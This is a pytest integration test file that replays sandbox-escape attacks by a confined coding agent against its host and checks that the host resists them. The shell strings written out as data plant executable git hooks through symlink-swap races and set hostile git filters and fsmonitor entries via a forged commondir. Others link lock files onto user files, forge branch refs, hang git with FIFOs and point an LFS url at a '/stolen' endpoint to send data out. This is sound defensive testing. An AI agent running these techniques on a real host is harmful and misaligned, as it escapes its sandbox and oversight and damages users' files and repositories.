"""Attacks that once succeeded from inside the sandbox of the guide, each tried on the whole cycle of the host."""

from __future__ import annotations

import os
import socket
import subprocess
import time
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from specify_cli.workflow import lane_folders
from tests.integration.intake.workspaces import git
from tests.integration.sandbox.bubblewrap import EXAMPLES
from tests.integration.sandbox.workspaces import TREES, of_all_agents
from tests.integration.sandbox_attacks.world import DEADLINE_S, SLUG, World
from tests.integration.stage import APPROVED
from tests.large_files import needs_git_lfs
from tests.patience import LONGEST_S

pytestmark = pytest.mark.usefixtures("told")

LATER = "003-later"
EVIL = "printf '#!/bin/sh\\necho ran >{tripwire}\\n'"


def evil(world: World) -> str:
    """The words of a shell that print a program of the agent's."""
    return EVIL.format(tripwire=world.tripwire)


@contextmanager
def beside(process: subprocess.Popen[bytes]) -> Iterator[None]:
    """The agent is at work all the while, and then ended with its sandbox."""
    assert process.stdout
    assert process.stdout.readline() == b"begun\n"
    try:
        yield
        assert process.poll() is None, process.stdout.read()
    finally:
        process.kill()
        process.communicate(timeout=LONGEST_S)


def of_its_orchestrator(world: World, script: str) -> subprocess.Popen[bytes]:
    """Agents at work in the sandbox of their orchestrator, with every workspace of the project."""
    box = world.box
    options = [*of_all_agents(world.stage), "sh", "-ec", script]
    words = [str(EXAMPLES / "in-sandbox.sh"), str(box), str(box), *options]
    return subprocess.Popen(words, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)


def commit_as_user(world: World) -> None:
    """Whatever became a hook of the project runs now."""
    world.stage.commit({"users.txt": "mine\n"})


def test_a_hook_through_a_folder_that_is_swapped_while_the_host_works(world: World) -> None:
    hooks = world.stage.root / ".git" / "hooks"
    world.inside(
        f"{evil(world)} >docs/pre-commit; chmod +x docs/pre-commit; git add .; git commit -q -m hook"
    )
    swapping = (
        f"echo begun; while :; do mv docs was; ln -s {hooks} docs; rm docs; mv was docs; done"
    )
    with world.unharmed():
        with beside(world.start(swapping)):
            outcome = world.cycle()
        commit_as_user(world)
    assert outcome


@pytest.mark.campaign
def test_a_hook_through_a_workspace_that_is_swapped_while_the_host_fills_it(world: World) -> None:
    """By agents that can write all workspaces: what is being made is out of their reach."""
    hooks = world.stage.root / ".git" / "hooks"
    world.stage.write_mission({"WP01": {}}, slug=LATER)
    # So many that to write them takes a while.
    program = f"#!/bin/sh\necho ran >{world.tripwire}\n"
    world.stage.commit({f"docs/{name}": program for name in ("pre-commit", *map(str, range(300)))})
    swapping = f"""
        cd {TREES}; echo begun
        while :; do
            for docs in .making/*/workspace/docs .trash/*/docs; do
                mv $docs $docs.was && ln -s {hooks} $docs || true
            done 2>/dev/null
        done
    """
    process = of_its_orchestrator(world, swapping)
    with world.unharmed(), beside(process):
        made = world.ask("start-implementation", mission=LATER, wp="WP01", actor="coder")
        assert made["success"], made
        assert world.cycle()
        commit_as_user(world)


@pytest.mark.campaign
def test_a_filter_through_a_forged_commondir(world: World) -> None:
    world.inside(
        f"""
        mkdir forged; cp -r .git/objects .git/refs .git/HEAD forged/
        {evil(world)} >run; chmod +x run
        git config -f forged/config filter.evil.clean $PWD/run
        git config -f forged/config filter.evil.smudge $PWD/run
        git config -f forged/config core.fsmonitor $PWD/run
        echo '* filter=evil' >.gitattributes
        echo $PWD/forged >.git/commondir
        echo more >>a.txt
        """
    )
    with world.unharmed():
        assert world.cycle()


@pytest.mark.campaign
def test_the_index_through_a_link_into_a_file_of_the_user(world: World) -> None:
    startup = world.root / "profile"
    startup.write_text("# mine\n")
    world.inside(
        f"rm .git/index; ln -s {startup} .git/index; ln -s {startup} .git/index.lock; echo x >a.txt"
    )
    with world.unharmed():
        assert world.cycle().startswith("taken, next started, ")
    assert startup.read_text() == "# mine\n"


@pytest.mark.campaign
def test_the_journal_through_links_under_names_that_are_known_before(world: World) -> None:
    journal = world.stage.root / ".kitty" / "outbox" / "journal.jsonl"
    before = journal.read_bytes()
    names = [
        *(
            "index.lock",
            "HEAD.lock",
            "config.lock",
            "packed-refs.lock",
            "packed-refs.new",
            "shallow.lock",
        ),
        *(
            "FETCH_HEAD",
            "ORIG_HEAD",
            "MERGE_HEAD",
            "gc.pid",
            "objects/maintenance.lock",
            "index.tmp",
        ),
        *("spec-kitty-filling", "spec-kitty.tmp", f"refs/heads/{world.lane}.lock", "gitdir.lock"),
    ]
    places = (
        " ".join(f".git/{name}" for name in names) + " .tmp .gitignore .gitattributes.tmp a.txt.tmp"
    )
    world.inside(f"for place in {places}; do ln -sf {journal} $place; done")
    with world.unharmed():
        assert world.cycle()
    assert journal.read_bytes().startswith(before)


@pytest.mark.campaign
def test_files_below_worktrees_through_links_of_agents_that_can_write_there(world: World) -> None:
    journal = world.stage.root / ".kitty" / "outbox" / "journal.jsonl"
    world.stage.write_mission({"WP01": {}}, slug=LATER)
    before = journal.read_bytes()
    names = f".gitignore .gitignore.tmp .tmp {LATER}-lane-a.tmp"
    planting = (
        f"cd {TREES}; for it in {names}; do ln -sf {journal} $it; done; echo begun; sleep 999"
    )
    with world.unharmed():
        with beside(of_its_orchestrator(world, planting)):
            world.ask("start-implementation", mission=LATER, wp="WP01", actor="coder")
        assert world.cycle()
    assert journal.read_bytes().startswith(before)


@pytest.mark.campaign
@pytest.mark.parametrize(
    "kind", ["ln -s {secret}", "ln -s {hooks}", "ln -s {victim}", "mkfifo", "mkdir"]
)
def test_a_name_that_a_workspace_is_going_to_have(world: World, kind: str) -> None:
    world.stage.write_mission({"WP01": {}}, slug=LATER)
    hooks = world.stage.root / ".git" / "hooks"
    make = kind.format(secret=world.secret, hooks=hooks, victim=world.victim)
    planting = f"{make} {TREES}/{LATER}-lane-a; echo begun; sleep 999"
    with world.unharmed(), beside(of_its_orchestrator(world, planting)):
        begun = world.ask("start-implementation", mission=LATER, wp="WP01", actor="coder")
        assert begun["error_code"] == "LANE_ALLOCATION_FAILED", begun
        assert world.cycle() == "taken, next started, merged"


@pytest.mark.campaign
@pytest.mark.parametrize(
    "kind", ["ln -s {project}", "ln -s {victim}", "mkfifo", "mkdir", "cp -r was"]
)
def test_a_workspace_that_gives_way_to_something_else(world: World, kind: str) -> None:
    make = kind.format(project=world.stage.root, victim=world.victim)
    planting = f"cd {TREES}; mv {SLUG}-lane-a was; {make} {SLUG}-lane-a; echo begun; sleep 999"
    with world.unharmed(), beside(of_its_orchestrator(world, planting)):
        assert not world.cycle().startswith("taken")


def test_main_through_a_branch_that_is_a_symbolic_ref(world: World) -> None:
    main = world.stage.git("rev-parse", "main")
    world.inside(
        f"""
        git update-ref refs/heads/main HEAD
        git symbolic-ref refs/heads/{world.lane} refs/heads/main
        echo sym >sym.txt; git add .; git commit -q -m sym
        """
    )
    with world.unharmed():
        assert world.hand_in() == "taken"
    assert world.stage.git("rev-parse", "main") == main
    assert world.stage.git("for-each-ref", "--format=%(symref)", "refs/heads").strip() == ""


@pytest.mark.campaign
def test_planted_branches_under_the_names_of_the_host(world: World) -> None:
    main = world.stage.git("rev-parse", "main")
    world.inside(
        f"""
        evil=$(git commit-tree -m evil -p HEAD HEAD^{{tree}})
        for ref in heads/main heads/kitty/mission-{SLUG} heads/kitty/mission-{SLUG}-lane-b \\
            heads/kitty/mission-{SLUG}-lane-z spec-kitty/origin/{SLUG} spec-kitty/set-aside/WP01 \\
            replace/{main} tags/v1 remotes/origin/main; do git update-ref refs/$ref $evil; done
        """
    )
    with world.unharmed():
        assert world.hand_in() == "taken"
    assert not world.has(git(world.workspace, "rev-parse", "refs/heads/main"))
    assert world.stage.git("rev-parse", "main") == main


@pytest.mark.campaign
def test_locks_that_a_linked_registration_leads_to(world: World) -> None:
    elsewhere = world.root / "elsewhere"
    elsewhere.mkdir()
    locks = ["HEAD.lock", "config.lock", "index.lock"]
    for name in locks:
        (elsewhere / name).write_text("held\n")
    world.inside(
        f"""
        mkdir .git/worktrees; ln -s {elsewhere} .git/worktrees/x; ln -s {elsewhere} .git/modules
        rm -rf .git/logs; ln -s {elsewhere} .git/logs; ln -s {elsewhere} locks
        """
    )
    with world.unharmed():
        assert world.cycle()
    assert sorted(it.name for it in elsewhere.iterdir()) == locks


def test_objects_that_are_swapped_under_their_names_after_approval(world: World) -> None:
    with world.unharmed():
        assert world.hand_in() == "taken"
        approved = world.stage.git("rev-parse", world.lane)
        world.inside(
            f"""
            evil=$(echo evil | git hash-object -w --stdin)
            file=.git/objects/$(echo $evil | sed 's,^..,&/,')
            find .git/objects -type f ! -path $file | while read it; do
                chmod u+w $it; cat $file >$it
            done
            {evil(world)} >.git/hooks/post-update; chmod +x .git/hooks/post-update
            """
        )
        world.ask("start-implementation", wp="WP02", actor="coder")
        world.ask("transition", wp="WP02", actor="coder", to="canceled", note="n")
        assert world.ask("accept-mission", actor="coder")["success"]
        assert world.ask("merge-mission", actor="coder")["success"]
    assert world.stage.git("show", "main:loose.txt") == "loose"
    assert approved in world.stage.git("log", "--format=%H", "main").split()


@pytest.mark.campaign
def test_a_branch_that_is_reset_after_approval(world: World) -> None:
    with world.unharmed():
        assert world.hand_in() == "taken"
        approved = world.stage.git("rev-parse", world.lane)
        world.inside(
            "git reset -q --hard main; echo evil >evil.txt; git add .; git commit -q -m evil"
        )
        world.ask("transition", wp="WP02", actor="coder", to="canceled", note="n", force=True)
        assert world.ask("accept-mission", actor="coder")["success"]
        world.ask("merge-mission", actor="coder")
    assert world.stage.git("rev-parse", world.lane) == approved or approved in world.stage.git(
        "log", "--format=%H", "main"
    )
    assert "evil.txt" not in world.stage.git("ls-tree", "--name-only", "main")


@pytest.mark.campaign
@pytest.mark.parametrize("way", ["alternates", "http-alternates", "commondir", "a linked folder"])
def test_another_repository_through(world: World, way: str) -> None:
    theirs = git(world.victim, "rev-parse", "HEAD")
    objects = f"{world.victim}/.git/objects"
    plant = {
        "alternates": f"echo {objects} >.git/objects/info/alternates",
        "http-alternates": f"echo {objects} >.git/objects/info/http-alternates",
        "commondir": f"echo {world.victim}/.git >.git/commondir",
        "a linked folder": f"rm -rf .git/objects/{theirs[:2]};"
        f" ln -s {objects}/{theirs[:2]} .git/objects/{theirs[:2]}",
    }[way]
    world.inside(f"echo {theirs} >.git/refs/heads/{world.lane}; {plant}")
    with world.unharmed():
        assert not world.cycle().startswith("taken")


@pytest.mark.campaign
def test_a_workspace_that_never_ends(world: World) -> None:
    """FIFOs wherever git reads, put there while the host looks."""
    putting = (
        "echo begun; while :; do for it in HEAD config packed-refs; do"
        " mv .git/$it .git/was; mkfifo .git/$it; rm .git/$it; mv .git/was .git/$it; done; done"
    )
    with world.unharmed(), beside(world.start(putting)):
        started = time.monotonic()
        for _ in range(3):
            world.ask("transition", wp="WP01", actor="coder", to="for_review")
            world.ask("mission-state")
    assert time.monotonic() - started < LONGEST_S / 2


@pytest.mark.campaign
def test_approval_is_of_the_commit_that_was_handed_in(world: World) -> None:
    with world.unharmed():
        world.done("transition", wp="WP01", actor="coder", to="for_review")
        handed_in = world.stage.git("rev-parse", world.lane)
        world.inside("echo later >later.txt; git add .; git commit -q -m later")
        world.done("start-review", wp="WP01", actor="reviewer")
        judged = {"to": "approved", "review_result": APPROVED}
        told = world.ask("transition", wp="WP01", actor="reviewer", **judged)
    assert told["data"]["commits_not_included"] is not None
    state = world.ask("mission-state")["data"]["work_packages"][0]
    assert state["commit"] == handed_in


@needs_git_lfs
def test_a_way_out_through_the_git_lfs_of_the_host(world: World) -> None:
    """The agent names a server; its pointer is of a version that the intake does not look for."""
    world.stage.git("lfs", "install", "--local", "--skip-repo")
    pointer = f"version https://hawser.github.com/spec/v1\\noid sha256:{'a' * 64}\\nsize 5\\n"
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        url = f"http://127.0.0.1:{server.getsockname()[1]}/stolen"
        world.inside(
            f"""
            printf '[lfs]\\n\\turl = {url}\\n' >.lfsconfig; printf '{pointer}' >x.bin
            git config filter.lfs.required false; git config filter.lfs.process cat
            git add .; echo '*.bin filter=lfs' >.gitattributes
            git add .gitattributes; git commit -q -m lfs; git switch -q -c other
            """
        )
        with world.unharmed():
            assert world.hand_in() == "taken"
            # The workspace is on another branch, and is made again.
            world.done("start-implementation", wp="WP02", actor="coder")
        with pytest.raises(BlockingIOError):
            server.accept()


def test_what_was_handed_in_through_a_branch_that_is_rewritten(world: World) -> None:
    with world.unharmed():
        world.done("transition", wp="WP01", actor="coder", to="for_review")
        first = world.stage.git("rev-parse", world.lane)
        for again in ("one", "two"):
            again_at_work = {"to": "in_progress", "note": "again", "force": True}
            world.done("transition", wp="WP01", actor="coder", **again_at_work)
            world.inside(
                f"git reset -q --hard HEAD~; echo x >{again}; git add .; git commit -q -m x"
            )
            world.done("transition", wp="WP01", actor="coder", to="for_review")
    world.stage.git("reflog", "expire", "--expire=now", "--all")
    world.stage.git("gc", "-q", "--prune=now")
    assert world.has(first)


@pytest.mark.campaign
def test_a_file_that_git_waits_for_once_nobody_else_can_change_the_repository(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Put there behind the host's first look, by an agent that stands nowhere in its workspace."""
    assert world.hand_in() == "taken"
    world.inside("git switch -q -c other")
    config = world.stage.root / ".kitty" / "config.toml"
    config.write_text(config.read_text().replace(f"git_timeout_s = {DEADLINE_S}\n", ""))
    looks, first_look = [0], lane_folders.work_in

    def work_in(*args: Any, **more: Any) -> Sequence[str]:
        looks[0] += 1
        if looks[0] == 2:
            os.mkfifo(world.workspace / "docs" / ".gitignore")
        return first_look(*args, **more)

    monkeypatch.setattr(lane_folders, "work_in", work_in)
    started = time.monotonic()
    refused = world.stage.ask("start-implementation", mission=SLUG, wp="WP02", actor="coder")
    assert time.monotonic() - started < LONGEST_S / 10
    assert (looks[0], refused["data"]["reason_code"]) == (2, "uncommitted_work")


@pytest.mark.campaign
def test_workspaces_that_never_end_beside_one_that_is_approved(world: World) -> None:
    lanes = ["one", "two", "three", "four"]
    packages = {f"WP0{x}": {"owned_files": [f"{name}/**"]} for x, name in enumerate(lanes, 1)}
    world.stage.write_mission(packages, slug=LATER)
    config = world.stage.root / ".kitty" / "config.toml"
    config.write_text(config.read_text().replace(f"git_timeout_s = {DEADLINE_S}\n", ""))
    paths = {}
    for wp in packages:
        begun = world.stage.done("start-implementation", mission=LATER, wp=wp, actor="coder")
        paths[wp] = Path(begun["workspace_path"])
        world.stage.commit({f"{wp}.txt": "x\n"}, folder=paths[wp])
    this = {"mission": LATER, "wp": "WP01"}
    world.stage.done("transition", **this, actor="coder", to="for_review")
    world.stage.done("start-review", **this, actor="reviewer")
    for wp in ("WP02", "WP03", "WP04"):
        os.mkfifo(paths[wp] / "pipe")
        git(paths[wp], "config", "include.path", "../pipe")
    started = time.monotonic()
    judged = {"to": "approved", "review_result": APPROVED}
    world.stage.done("transition", **this, actor="reviewer", **judged)
    assert time.monotonic() - started < LONGEST_S / 10
